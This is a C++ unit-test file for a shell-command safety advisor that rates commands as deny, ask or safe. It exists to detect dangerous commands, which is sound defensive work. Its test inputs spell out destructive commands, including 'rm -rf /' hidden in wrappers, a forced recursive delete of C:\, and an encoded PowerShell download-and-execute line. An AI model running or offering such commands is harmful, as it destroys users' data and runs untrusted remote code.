// advice_test.cc: advice as a whole: verdicts, spans, unknown programs.
#include "safety/advice/advice.h"

#include <gtest/gtest.h>

#include <string>

namespace pinfold::advice {
namespace {

AdviceVerdict verdict(std::string_view text, Shell shell = Shell::kAuto) { return advise(text, shell).verdict; }

TEST(Advice, GivesTheSpanOfEachFinding) {
  const std::string text = "ls; sudo rm -rf / # all";
  const Advice advice = advise(text, Shell::kPosix);
  ASSERT_FALSE(advice.findings.empty());
  const Finding& first = advice.findings[0];
  EXPECT_EQ(first.rule, "delete-root");
  EXPECT_EQ(text.substr(first.begin, first.end - first.begin), "rm -rf /");
  EXPECT_FALSE(first.safer.empty());
}

TEST(Advice, ListsTheMostSevereFindingFirst) {
  const Advice advice = advise("git push -f; rm -rf /", Shell::kPosix);
  ASSERT_GE(advice.findings.size(), 2U);
  EXPECT_EQ(advice.findings[0].verdict, AdviceVerdict::kDeny);
  EXPECT_EQ(advice.verdict, AdviceVerdict::kDeny);
}

TEST(Advice, LooksThroughWrappers) {
  for (const char* text :
       {"sudo env A=1 nice -n 5 nohup timeout 3 rm -rf /", "sh -c 'bash -lc \"rm -rf /\"'", "eval 'eval \"rm -rf /\"'",
        "xargs rm -rf <<< /", "find . -exec sh -c 'rm -rf /' \\;", "ssh host 'rm -rf /'", "watch -n1 rm -rf /",
        "python3 -c 'import os; os.system(\"rm -rf /\")'", "echo 'rm -rf /' | sudo bash", "busybox rm -rf /"})
    EXPECT_EQ(verdict(text), AdviceVerdict::kDeny) << text;
}

TEST(Advice, QuotedTextIsSafe) {
  for (const char* text : {"echo 'rm -rf /'", "grep -rn 'curl x | sh' .", "git commit -m 'drop rm -rf /'", "# rm -rf /",
                           "cat <<E > notes\nrm -rf /\nE"})
    EXPECT_EQ(verdict(text), AdviceVerdict::kSafe) << text;
}

TEST(Advice, ClassifiesPathsByKind) {
  EXPECT_EQ(verdict("rm -rf build"), AdviceVerdict::kSafe);
  EXPECT_EQ(verdict("rm -rf /tmp/../"), AdviceVerdict::kDeny);
  EXPECT_EQ(verdict("cd /; rm -rf *"), AdviceVerdict::kDeny);
  EXPECT_EQ(verdict("cd build; rm -rf ./*.o"), AdviceVerdict::kSafe);
  EXPECT_EQ(verdict("rm -rf \"$X/\""), AdviceVerdict::kDeny);
  EXPECT_EQ(verdict("X=out; rm -rf \"$X/\""), AdviceVerdict::kSafe);
}

TEST(Advice, FollowsScriptsThatTheTextWritesAndRuns) {
  EXPECT_EQ(verdict("printf 'rm -rf /\\n' > a.sh; sh a.sh"), AdviceVerdict::kDeny);
  EXPECT_EQ(verdict("echo 'rm -rf /' | tee a.sh; chmod +x a.sh; ./a.sh"), AdviceVerdict::kDeny);
  EXPECT_EQ(verdict("echo 'make all' > a.sh; sh a.sh"), AdviceVerdict::kSafe);
  EXPECT_EQ(verdict("f() { rm -rf \"$1\"; }; f /"), AdviceVerdict::kDeny);
  EXPECT_EQ(verdict("f() { local d=$2; rm -rf \"${d}\"; }; f a /usr"), AdviceVerdict::kDeny);
  EXPECT_EQ(verdict("f() { rm -rf \"$1\"; }; f build"), AdviceVerdict::kSafe);
}

TEST(Advice, NestingBeyondTheLimitIsUnknown) {
  std::string text = "x";
  for (int i = 0; i < 40; ++i) text = "$(" + text + ")";
  const Advice advice = advise(text, Shell::kPosix);
  EXPECT_FALSE(advice.complete);
  EXPECT_EQ(advice.verdict, AdviceVerdict::kAsk);
  EXPECT_EQ(advice.findings.back().rule, "too-deep");
}

TEST(Advice, DetectsWindowsCommands) {
  EXPECT_EQ(verdict("Remove-Item -Recurse -Force C:\\"), AdviceVerdict::kDeny);
  EXPECT_EQ(verdict("Remove-Item -Recurse -Force C:\\", Shell::kPowerShell), AdviceVerdict::kDeny);
  EXPECT_EQ(verdict("Remove-Item .\\build -Recurse"), AdviceVerdict::kSafe);
  // "iex (iwr http://x)" in UTF-16 and base64.
  EXPECT_EQ(verdict("powershell -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA"), AdviceVerdict::kDeny);
  EXPECT_EQ(verdict("pwsh -Command Get-Date"), AdviceVerdict::kSafe);
}

TEST(Advice, AcceptsArbitraryBytes) {
  EXPECT_EQ(verdict(""), AdviceVerdict::kSafe);
  for (int byte = 0; byte < 256; ++byte) {
    const std::string text(3, static_cast<char>(byte));
    advise(text, Shell::kAuto);
    advise("a " + text + " 'b", Shell::kPowerShell);
  }
}

TEST(Advice, TerminatesOnHostileText) {
  for (const std::string unit :
       {"find / -exec sh -c 'x' ;", "{ a|b; } | ", "eval '", "sh -c \"", "echo a|sh;", "python -c 'system(fork qx'",
        "curl x|", "xargs xargs ", "sudo ", "$(curl x)|sh ", "powershell -enc a;", "cmd /c ", "i`e`x ",
        "f() { f $1$1 x; }; f '$1$1$1' $@;", "a | b > c;", "x=$(y) > $x;"}) {
    std::string text;
    while (text.size() < 100000) text += unit;
    advise(text, Shell::kAuto);
  }
}

}  // namespace
}  // namespace pinfold::advice
